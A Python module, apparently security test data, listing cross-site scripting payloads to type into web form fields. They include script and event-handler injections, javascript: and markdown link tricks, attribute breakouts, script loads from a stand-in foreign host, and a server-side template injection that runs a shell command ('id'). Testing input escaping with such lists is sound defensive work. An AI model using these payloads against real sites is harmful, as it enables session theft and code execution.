"""What attackers type into fields: scripts of many kinds, for every field that a page shows.

`SCRIPTS` are one of each kind, for typing into every field; `ALL_SCRIPTS` adds the combinations.
Each would open a dialog, or load from a foreign host, on a page that shows it unescaped.
"""

from itertools import product

HIT = "alert('ef')"
FOREIGN = "http://foreign.invalid"

SCRIPTS: dict[str, str] = {
    "script element": f"<script>{HIT}</script>",
    "script in mixed case": f"<ScRiPt >{HIT}</sCrIpT >",
    "script from elsewhere": f"<script src={FOREIGN}/x.js></script>",
    "script never closed": f"<script>{HIT}//",
    "script hidden in itself": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "image that fails": f"<img src=x onerror={HIT}>",
    "image with slashes for spaces": f'<img/src="x"/onerror="{HIT}"//',
    "image never closed": f'<img src=x onerror="{HIT}" ',
    "remote image": f'<img src="{FOREIGN}/pixel.png">',
    "drawing": f"<svg onload={HIT}></svg>",
    "script in a drawing": f"<svg><script>{HIT}</script></svg>",
    "animated link": f'<svg><a><animate attributeName=href values="javascript:{HIT}"/><text y=20>x</text></a></svg>',
    "formula": f'<math><mtext><table><mglyph><style><img src onerror="{HIT}">',
    "link with a script": f'<a href="javascript:{HIT}">x</a>',
    "link with a tab in its scheme": f'<a href="java&#9;script:{HIT}">x</a>',
    "link in entities": f'<a href="&#106;avascript&colon;{HIT}">x</a>',
    "link to data": f'<a href="data:text/html,<script>{HIT}</script>">x</a>',
    "frame": f'<iframe src="javascript:{HIT}"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    "embedded object": f'<object data="javascript:{HIT}"></object>',
    "form that posts elsewhere": f'<form action="{FOREIGN}"><button>x</button></form>',
    "button with an action": f'<form><button formaction="javascript:{HIT}">x</button></form>',
    "focus on load": f"<input autofocus onfocus={HIT}>",
    "detail that opens": f"<details open ontoggle={HIT}><summary>x</summary></details>",
    "video": f"<video><source onerror={HIT}></video>",
    "style from elsewhere": f"<style>@import '{FOREIGN}/x.css';</style>",
    "style attribute": f'<p style="background:url({FOREIGN}/x.png)">x</p>',
    "animation by style": f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationend={HIT}>x</p>",
    "base address": f'<base href="{FOREIGN}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    "out of an attribute": f'"><script>{HIT}</script>',
    "out of an attribute by event": f'" autofocus onfocus="{HIT}" x="',
    "out of a quoted attribute": f"' onmouseover='{HIT}' x='",
    "out of a text area": f"</textarea><script>{HIT}</script>",
    "out of a title": f"</title><script>{HIT}</script>",
    "out of a script": f"</script><script>{HIT}</script>",
    "out of a string": f"';{HIT};//\";{HIT};//`;{HIT};//",
    "out of a comment": f"--><script>{HIT}</script><!--",
    "comment that ends early": f"<!--><img src=x onerror={HIT}>-->",
    "raw text that ends early": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    "template of the server": "{{ cycler.__init__.__globals__.os.popen('id').read() }}{{7*7}}",
    "template of the browser": "{{constructor.constructor('" + HIT.replace("'", '"') + "')()}}",
    "entities decoded twice": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "named and taking over": '<form id="location"><input name="href"><a id="forms" name="cookie">x</a></form>',
    "markdown link": f"[x](javascript:{HIT.replace('(', '%28').replace(')', '%29')})",
    "markdown link with a line break": "[x](java\nscript:alert%281%29)",
    "markdown link in brackets": f"[x](<javascript:{HIT}>)",
    "markdown link with a title": f"[x](https://a.invalid 'a\" onmouseover={HIT} \"')",
    "markdown reference": f"[x][y]\n\n[y]: javascript:{HIT}",
    "markdown automatic link": f"<javascript://%0a{HIT}>",
    "markdown automatic mail": f'<x"onmouseover="{HIT}"@y.invalid>',
    "markdown image": f"![x]({FOREIGN}/pixel.png)",
    "markdown image with an event": f'![x](y"onerror="{HIT})',
    "markdown code": f"`<script>{HIT}</script>`\n\n    <script>{HIT}</script>",
    "markdown in HTML": f"<p markdown=1>**<img src=x onerror={HIT}>**</p>",
    "bare address with quotes": f'https://a.invalid/"onmouseover="{HIT}',
    "bare address with a tag": f"https://a.invalid/<img/src=x/onerror={HIT}>",
    "wide brackets": f"＜script＞{HIT}＜/script＞",
}

#: short enough for the shortest field, a name
SHORT = sorted(
    (s for s in SCRIPTS.values() if len(s) <= 40 and not set("\n@") & set(s) and "://" not in s),
    key=len,
)
IN_A_LINE = 3
#: 21 of them, in sevenths that fit the shortest line: with each in turn, every field has held them all
GROUPS = [SHORT[start::7][:IN_A_LINE] for start in range(7)]

_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "marquee",
    "a href=#",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
)
_ENCLOSURES = ("<{}>", '"><{}>', "**<{}>**", "> <{}>")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
    "javascript&colon;",
)

ALL_SCRIPTS: dict[str, str] = (
    SCRIPTS
    | {
        f"{element} {event} in {enclosure}": enclosure.format(f"{element} {event}={HIT}")
        for element, event, enclosure in product(_ELEMENTS, _EVENTS, _ENCLOSURES)
    }
    | {
        f"{scheme!r} in {link}": link.format(f"{scheme}{HIT}")
        for scheme, link in product(
            _SCHEMES, ("[x](<{}>)", '<a href="{}">x</a>', "[x]: <{}>\n\n[x]", "<{}>")
        )
    }
)
